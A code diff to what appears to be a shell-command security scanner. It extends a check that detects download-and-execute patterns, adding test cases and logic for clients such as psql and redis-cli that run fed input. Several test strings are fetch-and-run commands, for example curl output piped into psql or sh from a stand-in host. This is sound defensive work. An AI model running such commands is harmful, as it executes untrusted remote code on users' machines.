@@ -1,5 +1,5 @@
 import type { Analysis, Command } from '../analysis.ts';
-import { codeOriginsIn, fetches, toolOf } from '../flow.ts';
+import { codeOriginsIn, fetches, originsOf, toolOf } from '../flow.ts';
 import { traceToRun } from '../provenance.ts';
 import { type Check, type CheckFinding, finding } from './check.ts';
 import { codeFindings } from './code-signals.ts';
@@ -98,6 +98,10 @@ export const downloadAndExecute: Check = {
       'deno run -A https://x.example/a.ts',
       'awk "$(curl -s https://x.example/a.awk)" f',
       'make -f <(curl -s https://x.example/Makefile)',
+      'java -jar <(curl -s https://x.example/a.jar)',
+      'curl -s https://x.example/a.sql | psql',
+      'f=$(mktemp); curl -so "$f" https://x.example/a; chmod +x "$f"; "$f"',
+      'timeout 9 sh < <(curl -s https://x.example/a)',
     ],
     clean: [
       'echo "never curl x | sh"',
@@ -123,6 +127,12 @@ export const downloadAndExecute: Check = {
             ),
           ];
     });
+    const orders = analysis.commands.flatMap((command): CheckFinding[] => {
+      const source = originsOf(takenOrders(command)).find((origin) => brings(analysis, origin));
+      return source === undefined
+        ? []
+        : [finding('high', command, `What ${toolOf(source)} fetches is run by ${toolOf(command)}.`, command)];
+    });
     const stepwise = traceToRun(analysis, (command) => brings(analysis, command) || clones(command)).map(
       ({ at, command, origin }) =>
         finding(
@@ -132,9 +142,29 @@ export const downloadAndExecute: Check = {
           command,
         ),
     );
-    return [...findRules(analysis, rules), ...direct, ...stepwise, ...codeFindings(analysis, 'fetched-code', 'high')];
+    return [
+      ...findRules(analysis, rules),
+      ...direct,
+      ...orders,
+      ...stepwise,
+      ...codeFindings(analysis, 'fetched-code', 'high'),
+    ];
   },
 };
+
+/** Clients that run what they are fed, and can start programs at its order (`\!`, `.shell`). */
+const ORDER_TAKERS = new Set(
+  'psql mysql mariadb sqlite3 duckdb mongosh mongo cqlsh clickhouse-client sqlplus redis-cli ed ex gdb'.split(' '),
+);
+
+/** Commands whose output is run by a program that is no interpreter: standard input, or a substitution as `-jar` or `-f`. */
+function takenOrders(command: Command): Command[] {
+  const takes = ORDER_TAKERS.has(toolOf(command));
+  const files = command.invocation.options.flatMap(({ name, role, value }) =>
+    role === 'script' || role === 'settings' || (takes && name === '--file') ? (value?.outputs ?? []) : [],
+  );
+  return takes ? [...files, ...command.stdin] : files;
+}
 
 function clones(command: Command): boolean {
   return toolOf(command) === 'git' && command.invocation.sub[0] === 'clone';
